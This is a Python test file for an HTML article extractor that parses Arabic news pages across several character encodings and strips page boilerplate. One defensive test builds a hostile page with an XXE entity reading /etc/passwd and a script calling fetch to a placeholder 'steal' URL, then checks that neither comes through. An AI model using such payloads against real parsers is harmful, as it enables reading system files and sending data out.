"""HTML pages end to end through the split stage, in every encoding scraped pages come in."""

from __future__ import annotations

import codecs
from datetime import UTC, datetime
from importlib import resources

import pytest

from agents.text.pages import articles_from_page
from streams.watch import page_item

NOW = datetime(2026, 11, 22, tzinfo=UTC)
PAGE = (resources.files("streams") / "demo_pages" / "04_wadi_muscat_book_fair.html").read_text(encoding="utf-8")
# The demo page has only Arabic letters that Windows-1256 and ISO-8859-6 both encode.
LEAD = "افتتح في العاصمة العمانية مسقط، صباح اليوم الخميس، معرض مسقط الدولي للكتاب"


def encoded(encoding: str, meta: str | None) -> bytes:
    html = PAGE.replace('<meta charset="utf-8">', f'<meta charset="{meta}">' if meta else "")
    if encoding == "utf-8-sig":
        return codecs.BOM_UTF8 + html.encode("utf-8")
    return html.replace("©", "(c)").encode(encoding)


@pytest.mark.parametrize(
    ("encoding", "meta"),
    [
        ("utf-8", "utf-8"),
        ("utf-8-sig", "utf-8"),  # a BOM
        ("cp1256", "windows-1256"),
        ("iso8859_6", None),  # no declaration at all
        ("cp1256", "utf-8"),  # a wrong declaration: the bytes win
    ],
)
def test_html_page__any_encoding_gives_the_same_article(encoding: str, meta: str | None) -> None:
    item = page_item(encoded(encoding, meta), "page.html", ".html", NOW)
    assert item.content_type == "html"
    (article,) = articles_from_page(item)
    assert article.title == "افتتاح معرض مسقط الدولي للكتاب بمشاركة 800 دار نشر"
    assert article.paragraphs[0].startswith(LEAD)
    assert article.outlet_hint == "الوادي نيوز" and article.published_hint == "2025-02-20"
    body = "\n".join(article.paragraphs)
    for junk in ("الرئيسية", "جائزة عربية جديدة لأدب الطفل", "شارك هذا المقال", "جميع الحقوق محفوظة"):
        assert junk not in body


def test_html_page__nothing_external_is_fetched_or_run() -> None:
    hostile = (
        '<?xml version="1.0"?><!DOCTYPE html [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
        "<html><head><script>fetch('http://example.invalid/steal')</script></head><body><article>"
        "<h1>عنوان الخبر التجريبي هنا</h1><p>&xxe;</p>"
        "<p>فقرة أولى طويلة بما يكفي لتكون نصا رئيسيا في المقال التجريبي الذي نكتبه هنا للاختبار فقط.</p>"
        "<img src='http://example.invalid/pixel.gif'></article></body></html>"
    )
    item = page_item(hostile.encode(), "hostile.html", ".html", NOW)
    (article,) = articles_from_page(item)
    text = "\n".join((article.title, *article.paragraphs))
    assert "root:" not in text and "fetch(" not in text


def test_articles_from_page__appended_article_carries_its_pages_outlet_and_date(seeds: dict[str, str]) -> None:
    from streams.records import RawItem

    raw = RawItem(item_id="p" * 32, source="seed", content_type="text", text=seeds["000"], encoding="utf-8", arrived_at=NOW)
    main, appended = articles_from_page(raw)
    assert appended.parent_id == main.article_id
    assert appended.outlet_hint == "الأسبوع"  # the page's "المصدر: الأسبوع"
    assert appended.published_hint == main.dateline  # no date line of its own: the page's
    hinted = raw.model_copy(update={"outlet_hint": "الوادي نيوز", "published_hint": "2025-02-20"})
    _, appended = articles_from_page(hinted)
    assert (appended.outlet_hint, appended.published_hint) == ("الوادي نيوز", "2025-02-20")
